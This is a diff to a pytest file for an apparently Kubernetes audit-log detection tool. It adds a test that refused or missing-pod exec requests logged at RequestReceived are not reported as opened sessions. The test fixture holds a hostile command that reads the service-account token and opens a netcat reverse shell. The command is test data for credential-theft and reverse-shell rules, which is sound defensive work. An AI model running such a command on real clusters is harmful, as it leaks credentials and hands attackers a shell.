@@ -9,8 +9,10 @@ health checks, a download saved to a file.
 
 from __future__ import annotations
 
+from datetime import datetime, timedelta
+
 import pytest
-from test_rules_helpers import exec_ev
+from test_rules_helpers import T0, exec_ev
 
 from detector.events.normalize import events_from_dicts
 from detector.rules import evaluate_rules, load_ruleset
@@ -144,3 +146,39 @@ def test_a_huge_hostile_body_is_read_the_same_every_time():
     read = frame.select(resolve_field("container_command_lines").expr).to_series().to_list()
     assert read[0] == read[2] == [" ".join(big)]
     assert read[1] == [" ".join(small)]
+
+
+def test_a_refused_exec_logged_at_request_received_too_is_not_a_session(ruleset):
+    """A log that records RequestReceived has a row with no response for each request; an
+    exec refused with 403 (or of a pod that does not exist, 404) matched ``not_failed``
+    there and was reported as a session that opened (found by review). A request whose
+    only row is RequestReceived is still judged on it."""
+    command = shell("cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc -e sh x 1")
+
+    def logged(audit_id: str, *stages: tuple[str, int], at: datetime = T0) -> list[dict]:
+        rows = []
+        for stage, code in stages:
+            row = exec_ev(command, audit_id=audit_id, stage=stage, code=code, at=at)
+            if stage == "RequestReceived":
+                del row["responseStatus"]
+            rows.append(row)
+        return rows
+
+    refused = logged("refused", ("RequestReceived", 0), ("ResponseComplete", 403))
+    missing = logged("missing", ("RequestReceived", 0), ("ResponseComplete", 404))
+    opened = logged("opened", ("RequestReceived", 0), ("ResponseStarted", 101))
+    # received after the range's first event (one received before it and logged at no
+    # later stage is taken as counted in the range before)
+    only_received = logged("only", ("RequestReceived", 0), at=T0 + timedelta(minutes=1))
+    for rule in ("exec-credential-read", "exec-reverse-shell"):
+        frame = events_from_dicts(refused + missing, cluster="t")
+        assert evaluate_rules(frame, ruleset.only(rule)).findings.is_empty()
+        frame = events_from_dicts(opened + only_received, cluster="t")
+        links = evaluate_rules(frame, ruleset.only(rule)).events
+        assert sorted(zip(links["audit_id"], links["stage"], strict=True)) == [
+            ("only", "RequestReceived"),
+            ("opened", "ResponseStarted"),
+        ]
+    frame = events_from_dicts(refused, cluster="t")
+    (reasons,) = evaluate_rules(frame, ruleset.only("pod-exec")).findings["reasons"]
+    assert "denied, HTTP 403" in reasons[0]
